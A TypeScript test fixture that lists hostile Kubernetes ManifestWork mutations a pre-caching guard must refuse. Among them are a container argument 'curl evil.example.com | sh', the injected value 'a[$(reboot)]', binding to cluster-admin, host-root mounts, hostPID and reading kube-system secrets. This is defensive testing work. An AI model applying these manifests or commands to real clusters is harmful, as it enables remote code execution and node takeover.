import type { KubernetesObject } from "#shared/domain/kubernetes/object.ts";
import { manifestWork } from "#shared/domain/precache-start/work/manifest-work.ts";
import { changedAt, refused } from "../hub/hostile-objects.ts";
import { anOwner } from "../hub/objects.ts";
import { aCheckRun, aRun, release } from "./precache-objects.ts";

/** The cluster of these works. */
export const cluster = "team-a";
const content = { platformImage: release, additionalImages: [release], spaceRequired: "45" };
const hints = { bandwidthMbits: 20, parallelPulls: 4 };
const input = { content, image: "quay.io/hubrelay/precache:v1", timeoutMinutes: 240 };
/** A work as the function writes it. */
export const ownWork = manifestWork(cluster, { ...input, ...hints, run: aRun });
/** The work of a check as the function writes it. */
export const ownCheck = manifestWork(cluster, { ...input, run: aCheckRun, timeoutMinutes: 15 });

const manifests = "spec workload manifests";
const job = `${manifests} Job`;
const pod = `${job} spec template spec`;
const container = `${pod} containers 0`;
const mounts = `${container} volumeMounts`;
/** The function's own work with another value at a path. */
const work = (path: string, value?: unknown) => changedAt(ownWork, path, value);
const more = (manifest: object) => work(`${manifests} +`, manifest);
const jobOf = ({ spec }: KubernetesObject) =>
  Object(spec).workload.manifests.find(({ kind }: KubernetesObject) => kind === "Job");
/** A second Job with these differences from the work's own. */
const secondJob = (path: string, value: unknown) => more(changedAt(jobOf(ownWork), path, value));

/** The content of works before the node's own kubelet configuration was read. */
const nodesProxy = {
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind: "ClusterRole",
  metadata: { name: "hubrelay-pre-cache" },
  rules: [{ apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"] }],
};
const nodesProxyBinding = {
  ...nodesProxy,
  kind: "ClusterRoleBinding",
  rules: undefined,
  roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "hubrelay-pre-cache" },
  subjects: [{ kind: "ServiceAccount", name: "pre-cache-agent", namespace: "openshift-talo-pre-cache" }],
};
/** A work as an earlier version created it: with permissions on nodes and a Job without a memory limit. */
export function earlierWork(): KubernetesObject {
  const nodeName = { name: "NODE_NAME", valueFrom: { fieldRef: { fieldPath: "spec.nodeName" } } };
  const earlier = changedAt(work(`${container} env +`, nodeName), `${container} resources`);
  return changedAt(changedAt(earlier, `${manifests} +`, nodesProxy), `${manifests} +`, nodesProxyBinding);
}

const namespace = "openshift-talo-pre-cache";
const owned = work("metadata ownerReferences", [anOwner]);
const orphan = { propagationPolicy: "Orphan" };
const bash = { name: "BASH_ENV", value: "/etc/config/platform.image" };
const fromSecret = { name: "PULL_PARALLEL", valueFrom: { secretKeyRef: { name: "any", key: "token" } } };
const onExitCodes = { operator: "NotIn", values: [0] };
const token = { projected: { sources: [{ serviceAccountToken: { path: "token" } }] } };
const rootExecutor = { type: "ServiceAccount", serviceAccount: { namespace: "kube-system", name: "root" } };
const readBack = {
  resourceIdentifier: { group: "", resource: "secrets", namespace: "kube-system", name: "x" },
  feedbackRules: [{ type: "JSONPaths", jsonPaths: [{ name: "a", path: ".data" }] }],
  updateStrategy: { type: "ReadOnly" },
};

/**
 * What the account may not create, by what the refusal says. A manifest that differs in a value, or by a field of any
 * name, is refused as well: write-guard-manifest-works.test.ts has all of them, and these are what an intruder would add.
 */
export const hostileWorks = refused({
  "may not write such a field": {
    "a work has an owner": owned,
    "a work chooses the account that applies it": work("spec executor", { subject: rootExecutor }),
    "a work has a label of another program": work("metadata labels x", "y"),
  },
  "its own ManifestWorks only": {
    "a work has another program's name": work("metadata name", "addon-work-manager"),
  },
  "The spec of a work": {
    "a work is removed without its objects": work("spec deleteOption", orphan),
    "a work reads an object of the cluster back": work("spec manifestConfigs", [readBack]),
    "a work reads more of its Job back": work("spec manifestConfigs 0 feedbackRules 0 jsonPaths +", {
      name: "a",
      path: ".metadata",
    }),
  },
  "the texts of its content only": {
    "the content has another key": work(`${manifests} ConfigMap data x/../y`, "z"),
    "the content has a value that is no text": work(`${manifests} ConfigMap data spaceRequired`, ["45"]),
  },
  "A Job is suspended, or not": { "a Job is suspended as null": work(`${job} spec suspend`, null) },
  "stays in its own namespace": {
    "a work contains a Secret": more({
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "s", namespace },
    }),
    "a work has an object in another namespace": work(`${job} metadata namespace`, "kube-system"),
    "a work contains a ClusterRole, even for the kubelet only": more(nodesProxy),
    "a work binds a ClusterRole in every namespace": more(nodesProxyBinding),
  },
  "pools of nodes and the releases on nodes only": {
    "a ClusterRole reads more": work(`${manifests} ClusterRole rules 0 resources +`, "machineconfigs"),
  },
  "its own roles and the privileged constraint": {
    "the account becomes an administrator": work(`${manifests} RoleBinding roleRef name`, "cluster-admin"),
  },
  "write its progress only": {
    "a Role reads every ConfigMap": work(`${manifests} Role rules`, [
      { apiGroups: [""], resources: ["configmaps"], verbs: ["get"] },
    ]),
  },
  "Only the workload's account may be bound": {
    "another subject is bound": work(`${manifests} RoleBinding subjects`, [
      { kind: "Group", name: "system:serviceaccounts" },
    ]),
  },
  "shares only its mounts with the node": {
    "the pod joins the node's processes": work(`${pod} hostPID`, true),
    "the pod displaces the node's own pods": work(`${pod} priorityClassName`, "system-node-critical"),
  },
  "one container": {
    "the pod has a second container": work(`${pod} containers +`, { name: "x", image: "quay.io/evil/x" }),
    "the pod has an init container": work(`${pod} initContainers`, [{ name: "x", image: "quay.io/evil/x" }]),
  },
  "the workload's own script": {
    "the container runs something else": work(`${container} args 0`, "curl evil.example.com | sh"),
    "a check runs the program that pulls": changedAt(
      ownCheck,
      `${container} args 0`,
      "/opt/precache/precache.sh",
    ),
    "a work of pre-caching only checks": work(`${container} args 0`, "/opt/precache/check.sh"),
  },
  "with its own settings": {
    "the container's shell gets a startup file": work(`${container} env +`, bash),
    "the container's settings come from a ConfigMap": work(`${container} envFrom`, [
      { configMapRef: { name: "any" } },
    ]),
    "a setting comes from a Secret": work(`${container} env PULL_PARALLEL`, fromSecret),
    "a number of the settings is a command": work(`${container} env PULL_PARALLEL value`, "a[$(reboot)]"),
    "the container's security context has more": work(`${container} securityContext procMount`, "Unmasked"),
  },
  "a memory limit": {
    "the container may use all memory of the node": work(`${container} resources`),
    "the container takes a device of the node": work(`${container} resources limits nvidia.com/gpu`, "1"),
  },
  "requests little memory": {
    "the container reserves all memory of the node": work(`${container} resources requests memory`, "4096Mi"),
  },
  "a deadline": { "the Job has no deadline": work(`${job} spec activeDeadlineSeconds`) },
  "write its image storage only": {
    "the pod mounts the whole node": work(`${pod} volumes +`, { name: "root", hostPath: { path: "/" } }),
    "the pod may write the node's programs": work(`${mounts} /host/usr/lib readOnly`),
    "a ConfigMap replaces the folder of the workload's script": work(`${mounts} +`, {
      name: "content",
      mountPath: "/opt/precache",
    }),
    "the content is mounted over the workload's script": work(`${mounts} 0`, {
      ...jobOf(ownWork).spec.template.spec.containers[0].volumeMounts[0],
      ...{ mountPath: "/opt/precache", subPath: "additionalImages" },
    }),
    "a mount of the pod spreads to the node": work(
      `${mounts} /host/run/containers mountPropagation`,
      "Bidirectional",
    ),
    "a mount leaves its folder with an expanded sub-path": work(
      `${mounts} /host/run/containers subPathExpr`,
      "$(POD_NAMESPACE)",
    ),
    "a volume holds a token of the account": work(`${pod} volumes +`, {
      name: "token",
      emptyDir: {},
      ...token,
    }),
  },
  "runs one pod once": {
    "the Job runs 1000 pods at a time": work(`${job} spec parallelism`, 1000),
    "a policy of the Job ignores failures": work(`${job} spec podFailurePolicy`, {
      rules: [{ action: "Ignore", onExitCodes }],
    }),
  },
  "the fields, labels and annotations that hubrelay writes": {
    "an annotation gives the pod another network": work(
      `${job} spec template metadata annotations k8s.v1.cni.cncf.io/networks`,
      "kube-system/storage",
    ),
    "an object of the managed cluster gets an owner": work(`${job} metadata ownerReferences`, [anOwner]),
  },
  "exactly one Job": {
    "a work has two Jobs": secondJob("metadata name", "another"),
    "a work has no Job, only permissions": work(job),
  },
  "with its own names": {
    "a work writes the ConfigMap of another run": more({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "pre-cache-spec-0000000000-000000", namespace },
    }),
  },
});

/** What the account may not make of its own work. */
export const hostileUpdates = refused({
  "may not write such a field": {
    "an existing work gets an owner": owned,
    "an existing work keeps its objects at its end": work("spec deleteOption", orphan),
    "an existing work gets a finalizer": work("metadata finalizers", ["example.com/held"]),
  },
  "only suspended and resumed": {
    "an existing Job gets 1000 pods": work(`${job} spec parallelism`, 1000),
    "an existing work gets a second Job with the same pod": secondJob("spec activeDeadlineSeconds", 60),
    "an existing Job's deadline is removed": work(`${job} spec activeDeadlineSeconds`),
    "an existing Job's pod shares the node's processes": work(`${pod} hostPID`, true),
    "an existing Job becomes one of another API": work(`${job} apiVersion`, "batch.example.com/v1"),
  },
  "A Job is suspended, or not": {
    "an existing Job's suspension becomes null": work(`${job} spec suspend`, null),
  },
});
